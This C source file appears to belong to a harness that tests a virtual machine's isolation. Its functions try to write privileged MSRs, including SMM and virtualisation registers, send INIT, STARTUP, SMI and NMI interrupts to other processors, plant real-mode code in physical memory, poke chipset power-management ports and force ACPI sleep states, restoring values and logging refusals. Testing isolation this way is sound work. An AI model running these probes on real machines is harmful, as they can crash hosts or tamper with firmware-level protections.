/* MSRs, interrupts, and the port by which the machine sleeps. */
#define _GNU_SOURCE /* sched_setaffinity */
#include "attack.h"
#include <sched.h>
#include <sys/io.h>

#define CPUS  64u
#define BYTES 16384u /* of a firmware's table */

/* ---- MSRs ------------------------------------------------------------------------ */

static int msr_open(unsigned cpu)
{
    char path[32];
    snprintf(path, sizeof(path), "/dev/cpu/%u/msr", cpu);
    return open(path, O_RDWR);
}

static bool msr_get(int fd, uint32_t msr, uint64_t *value) { return pread(fd, value, 8, msr) == 8; }

static bool msr_set(int fd, uint32_t msr, uint64_t value)
{
    return pwrite(fd, &value, 8, msr) == 8;
}

/* Each is written with these bits inverted, and, if that changed it, as it was. */
void attack_msrs(const char *name)
{
    static const struct {
        const char *name;
        uint32_t msr;
        uint64_t invert;
    } msrs[] = {
        {"EFER.SVME", 0xc0000080, 1 << 12},   {"VM_CR", 0xc0010114, 1 << 4},
        {"VM_HSAVE_PA", 0xc0010117, 1 << 20}, {"APIC_BASE", 0x1b, 1 << 20},
        {"SYSCFG", 0xc0010010, 1 << 20},      {"IORR_BASE0", 0xc0010016, 1 << 20},
        {"IORR_MASK0", 0xc0010017, 1 << 20},  {"IORR_BASE1", 0xc0010018, 1 << 20},
        {"IORR_MASK1", 0xc0010019, 1 << 20},  {"TOP_MEM", 0xc001001a, 1 << 23},
        {"TOP_MEM2", 0xc001001d, 1 << 23},    {"MMCONFIG", 0xc0010058, 1 << 20},
        {"SMM_BASE", 0xc0010111, 1 << 17},    {"SMM_ADDR", 0xc0010112, 1 << 17},
        {"SMM_MASK", 0xc0010113, 1 << 17},    {"microcode", 0xc0010020, 1 << 20},
        {"SMI_PORTS", 0xc0010050, 1 << 20},
    };
    int fd = msr_open(0);
    for (unsigned i = 0; i < sizeof(msrs) / sizeof(msrs[0]); i++) {
        uint64_t was = 0, is = 0;
        bool readable = msr_get(fd, msrs[i].msr, &was),
             writable = msr_set(fd, msrs[i].msr, was ^ msrs[i].invert);
        bool changed = msr_get(fd, msrs[i].msr, &is) && readable && is != was;
        if (changed)
            msr_set(fd, msrs[i].msr, was);
        say(name, "%s %s%s 0x%lx", msrs[i].name, writable ? "" : "refused ",
            changed ? "changed" : "kept", was);
    }
    close(fd);
}

/* ---- interrupts --------------------------------------------------------------------- */

#define ICR 0x830u
enum { FIXED = 0, LOWEST = 1, SMI = 2, NMI = 4, INIT = 5, STARTUP = 6, EXTERNAL = 7 };
enum { LOGICAL = 1 << 11, ASSERT = 1 << 14, OTHERS = 3 << 18 };

static bool is_own[CPUS]; /* by APIC ID */

/* All other processors are taken off, or put on again: no interrupt of ours is to hit one at work.
 */
static void set_others(const char *to)
{
    char path[64];
    for (unsigned cpu = 1; cpu < CPUS; cpu++) {
        snprintf(path, sizeof(path), "/sys/devices/system/cpu/cpu%u/online", cpu);
        put(path, to);
    }
}

static void find_own(void)
{
    char line[200];
    unsigned id;
    FILE *list = fopen("/proc/cpuinfo", "r");
    while (list && fgets(line, sizeof(line), list))
        if (sscanf(line, "apicid : %u", &id) == 1 && id < CPUS)
            is_own[id] = true;
    if (list)
        fclose(list);
}

static unsigned long nmis(void)
{
    char line[400];
    unsigned long count = 0;
    FILE *list = fopen("/proc/interrupts", "r");
    while (list && fgets(line, sizeof(line), list))
        if (strstr(line, "NMI:"))
            count = strtoul(strstr(line, "NMI:") + 4, NULL, 10);
    if (list)
        fclose(list);
    return count;
}

/* Where start-up IPIs send a processor: our own are among all others, and what else is there would
   ruin us. Two pages below 640 KiB in which Linux has nothing; each counts who comes, and halts
   (it is in real mode, with interrupts off; a stand-in of root's does the same):
   lock incw %cs:COUNT_AT; hlt; jmp to the hlt. */
enum { START_AT = 0x20000, STARTS = 2, COUNT_AT = 0xff0 };
static const uint8_t start_code[] = {0xf0,          0x2e, 0xff, 0x06, COUNT_AT & 0xff,
                                     COUNT_AT >> 8, 0xf4, 0xeb, 0xfd};

static volatile uint8_t *starts_open(uint8_t was[STARTS * PAGE])
{
    volatile uint8_t *pages = physical(START_AT, STARTS * PAGE);
    for (unsigned i = 0; pages && i < STARTS * PAGE; i++) {
        was[i] = pages[i];
        pages[i] = i % PAGE < sizeof(start_code) ? start_code[i % PAGE] : 0;
    }
    return pages;
}

/* How many came to either page. They still run there until the system starts them again. */
static unsigned starts_seen(const volatile uint8_t *pages)
{
    return pages[COUNT_AT] + pages[PAGE + COUNT_AT];
}

/* Every kind of interrupt to one that is not ours, or to many. */
static unsigned send_all(int fd, uint64_t to)
{
    static const uint32_t kinds[] = {FIXED << 8 | 0x02,
                                     FIXED << 8 | 0x0e,
                                     FIXED << 8 | 0x21,
                                     FIXED << 8 | 0xf0,
                                     FIXED << 8 | 0xf1,
                                     LOWEST << 8 | 0x71,
                                     SMI << 8,
                                     3 << 8 | 0x71,
                                     NMI << 8,
                                     EXTERNAL << 8,
                                     INIT << 8,
                                     STARTUP << 8 | START_AT >> 12,
                                     STARTUP << 8 | ((START_AT >> 12) + 1),
                                     FIXED << 8 | 0x12};
    unsigned sent = 0;
    for (unsigned i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
        sent += msr_set(fd, ICR, to | ASSERT | kinds[i]);
    return sent;
}

void attack_interrupts(const char *name)
{
    static uint8_t was[STARTS * PAGE];
    unsigned sent = 0;
    find_own();
    volatile uint8_t *pages = starts_open(was);
    if (!pages) {
        say(name, "refused");
        return;
    }
    set_others("0");
    unsigned long before = nmis();
    int fd = msr_open(0);
    uint64_t id = 0;
    msr_get(fd, 0x802, &id);
    bool own_nmi = msr_set(fd, ICR, id << 32 | ASSERT | NMI << 8);
    usleep(100000);
    unsigned long arrived = nmis() - before;
    for (uint64_t to = 0; to < CPUS; to++)
        if (!is_own[to]) {
            sent += send_all(fd, to << 32);
            sent += send_all(fd, (to >> 4) << 48 | 1ul << (32 + (to & 15)) | LOGICAL);
        }
    sent += send_all(fd, OTHERS);
    usleep(100000);
    close(fd);
    set_others("1");
    unsigned started = starts_seen(pages);
    for (unsigned i = 0; i < STARTS * PAGE; i++)
        pages[i] = was[i];
    say(name, "sent=%u own=%s arrived=%lu started=%u", sent, own_nmi ? "sent" : "refused", arrived,
        started);
}

/* All ports, on the last processor. QEMU 10.0 refuses them to user space where the task register is
   not by its own LTR (its model wants a TSS that is not busy): that of a processor which came
   beneath by a launch is not, but the last one has been off and on since. */
static bool ports_open(void)
{
    cpu_set_t last;
    CPU_ZERO(&last);
    CPU_SET((size_t)sysconf(_SC_NPROCESSORS_ONLN) - 1, &last);
    return iopl(3) == 0 && sched_setaffinity(0, sizeof(last), &last) == 0;
}

/* ---- another way to PM1 control ------------------------------------------------------ */

/* AMD's power management says where PM1 control is (index 62h), and has it in memory, in a page
   that begins with the IDs of the SMBus controller, which cannot be written. The place is written
   by bytes and by words, with each value of the upper one. */
void attack_chipset(const char *name)
{
    enum { INDEX = 0xcd6, DATA = 0xcd7, PM1_CONTROL = 0x62, TRIES = 256 };
    volatile uint32_t *page = physical(0xfed80000, PAGE);
    if (!page || !ports_open()) {
        say(name, "refused");
        return;
    }
    uint32_t ids = page[0], power = page[0x300 / 4];
    page[0] = ~ids;
    bool changed = page[0] != ids;
    page[0] = ids;
    outb(PM1_CONTROL, INDEX);
    uint8_t was = inb(DATA), is = was;
    for (unsigned i = 0; i < TRIES; i++) {
        outb((uint8_t)i, DATA);
        is = inb(DATA) != was ? inb(DATA) : is;
        outw((uint16_t)(i << 8 | PM1_CONTROL), INDEX);
    }
    outb(was, DATA);
    say(name, "ids=0x%x page=%s power=0x%x was=0x%x is=0x%x tried=%u", ids,
        changed ? "changed" : "kept", power, was, is, 2 * TRIES);
}

/* ---- suspend to RAM ----------------------------------------------------------------- */

static uint32_t table_get(const char *name, uint8_t bytes[BYTES])
{
    char path[64];
    snprintf(path, sizeof(path), "/sys/firmware/acpi/tables/%s", name);
    int fd = open(path, O_RDONLY);
    ssize_t all = 0, part = 1;
    while (fd >= 0 && part > 0 && all < (ssize_t)BYTES) { /* sysfs gives a page at a time */
        part = read(fd, bytes + all, BYTES - (size_t)all);
        all += part > 0 ? part : 0;
    }
    if (fd >= 0)
        close(fd);
    return (uint32_t)all;
}

/* SLP_TYP of the package behind `S3_` or `S5_`; 8: there is none. */
static unsigned sleep_type(char state)
{
    static uint8_t bytes[BYTES];
    uint8_t name[] = {'S', (uint8_t)state, '_', 0x12};
    uint32_t count = table_get("DSDT", bytes);
    for (uint32_t i = 0; i + 16 < count; i++)
        if (memcmp(bytes + i, name, sizeof(name)) == 0) {
            const uint8_t *at = bytes + i + 4;
            at += (at[0] >> 6) + 2;
            return at[0] == 0x0a ? at[1] : at[0];
        }
    return 8;
}

/* Every state but power-off, by each access that has SLP_EN, first suspend to RAM as it is meant to
   be entered (ACPI 6.5, 4.8.3.2.1). */
void attack_sleep(const char *name)
{
    static uint8_t fadt[BYTES];
    unsigned s3 = sleep_type('3'), s5 = sleep_type('5'), tried = 0;
    uint32_t pm1 = 0;
    if (table_get("FACP", fadt))
        memcpy(&pm1, fadt + 64, 4);
    if (!pm1 || s3 == 8 || s5 == 8 || !ports_open()) {
        say(name, "refused");
        return;
    }
    uint16_t port = (uint16_t)pm1, was = inw(port);
    for (unsigned i = 0; i < 8; i++) {
        unsigned type = (s3 + i) & 7, value = 1u << 13 | type << 10 | (was & 1);
        if (type == s5)
            continue;
        outw((uint16_t)value, port);
        outb((uint8_t)(value >> 8), (uint16_t)(port + 1));
        outl(value, port);
        outl(value << 16, (uint16_t)(port - 2));
        outw((uint16_t)(value >> 8), (uint16_t)(port + 1));
        outl(value >> 8, (uint16_t)(port + 1));
        tried += 6;
    }
    say(name, "port=0x%x was=0x%x s3=%u s5=%u tried=%u awake", port, was, s3, s5, tried);
}
